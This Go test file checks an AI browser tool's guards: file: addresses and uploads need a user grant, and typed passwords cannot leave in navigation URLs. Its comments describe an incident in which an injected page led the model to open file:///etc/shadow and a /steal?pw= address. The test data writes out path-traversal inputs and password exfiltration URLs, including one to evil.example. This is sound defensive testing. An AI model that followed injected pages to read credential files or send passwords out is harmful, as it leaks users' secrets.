package browser

import (
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestFileAddressesOnlyByGrant: a file: address opens, and a file uploads,
// only when the call's grant covers it (issue 13: over MCP,
// file:///etc/shadow was opened and extracted, and any path uploaded).
func TestFileAddressesOnlyByGrant(t *testing.T) {
	dir := t.TempDir()
	allowed := filepath.Join(dir, "allowed")
	if err := os.Mkdir(allowed, 0o700); err != nil {
		t.Fatal(err)
	}
	page := filepath.Join(allowed, "notes.html")
	secret := filepath.Join(dir, "secret.html")
	_ = os.WriteFile(page, []byte("<title>Notes</title><p>my notes</p>"), 0o600)
	_ = os.WriteFile(secret, []byte("<title>Secret</title><p>top secret</p>"), 0o600)
	link := filepath.Join(allowed, "link.html") // inside the folder, pointing outside
	if err := os.Symlink(secret, link); err != nil {
		t.Fatal(err)
	}
	fileURL := func(p string) string { return (&url.URL{Scheme: "file", Path: p}).String() }
	for _, c := range []struct {
		name  string
		grant *Grant
		url   string
		ok    bool
	}{
		{"no grant: /etc/passwd", nil, "file:///etc/passwd", false},
		{"no grant: a page", nil, fileURL(page), false},
		{"no grant: %-encoded", nil, "file:///etc/%70asswd", false},
		{"folder grant: inside", &Grant{Files: []string{allowed}}, fileURL(page), true},
		{"folder grant: outside", &Grant{Files: []string{allowed}}, fileURL(secret), false},
		{"folder grant: dot-dot", &Grant{Files: []string{allowed}}, "file://" + allowed + "/../secret.html", false},
		{"folder grant: link out", &Grant{Files: []string{allowed}}, fileURL(link), false},
		{"file grant: that file", &Grant{Files: []string{secret}}, fileURL(secret), true},
		{"user's own command", &Grant{User: true}, fileURL(secret), true},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := newToolRig(t)
			r.grant = c.grant
			if c.ok {
				d := r.ok("browser_navigate", map[string]any{"url": c.url})
				if !strings.HasPrefix(d["url"].(string), "file://") {
					t.Fatalf("opened %v", d)
				}
				return
			}
			msg := r.fails("browser_navigate", map[string]any{"url": c.url})
			if !strings.Contains(msg, "only when the user asked for them") {
				t.Fatalf("refusal %q does not say why", msg)
			}
			// Nothing of the file reached the page.
			if d := r.ok("browser_extract", nil); strings.Contains(d["text"].(string), "secret") || strings.Contains(d["text"].(string), "root:") {
				t.Fatalf("the file was read: %v", d["text"])
			}
		})
	}

	// Uploads: the same grant decides.
	photo := filepath.Join(allowed, "photo.jpg")
	_ = os.WriteFile(photo, []byte("12345"), 0o600)
	r := newToolRig(t)
	r.ok("browser_navigate", map[string]any{"url": site.URL + "/upload.html"})
	list := r.ok("browser_list_interactives", nil)
	for _, f := range []string{"/etc/passwd", photo} {
		if msg := r.fails("browser_upload", map[string]any{"index": num(t, list, "Photo"), "files": []string{f}}); !strings.Contains(msg, "only when the user asked for them") {
			t.Fatalf("upload of %s without a grant: %q", f, msg)
		}
	}
	r.grant = &Grant{Files: []string{allowed}}
	if msg := r.fails("browser_upload", map[string]any{"index": num(t, list, "Photo"), "files": []string{secret}}); !strings.Contains(msg, "only when the user asked for them") {
		t.Fatalf("upload outside the granted folder: %q", msg)
	}
	r.ok("browser_upload", map[string]any{"index": num(t, list, "Photo"), "files": []string{photo}})
	if got := r.text(`() => document.getElementById('out').textContent`); got != "photo.jpg 5" {
		t.Fatalf("after a granted upload the page says %q", got)
	}
}

// TestNavigationCarryingPasswordRefused: text typed into a password field is
// never sent to an address (issue 13: an injected page made the model open
// /steal?pw=…), plain, %-encoded or in a link opened in a new tab.
func TestNavigationCarryingPasswordRefused(t *testing.T) {
	r := newToolRig(t)
	r.ok("browser_navigate", map[string]any{"url": site.URL + "/login.html"})
	list := r.ok("browser_list_interactives", nil)
	r.ok("browser_overlay_act", map[string]any{"index": num(t, list, "Username"), "action": "type", "text": "anna"})
	r.ok("browser_overlay_act", map[string]any{"index": num(t, list, "Password"), "action": "type", "text": "hunter2 x&y"})
	for _, u := range []string{
		site.URL + "/steal?pw=hunter2 x%26y",
		site.URL + "/steal?pw=" + url.QueryEscape("hunter2 x&y"),
		site.URL + "/steal/" + url.PathEscape("HUNTER2 x&y"),
		"http://evil.example/?q=" + url.QueryEscape(url.QueryEscape("hunter2 x&y")),
	} {
		if msg := r.fails("browser_navigate", map[string]any{"url": u}); !strings.Contains(msg, "password") {
			t.Errorf("navigation to %s: %q", u, msg)
		}
	}
	// The user name is not a password; other addresses still open.
	r.ok("browser_navigate", map[string]any{"url": site.URL + "/search.html?who=anna"})
}
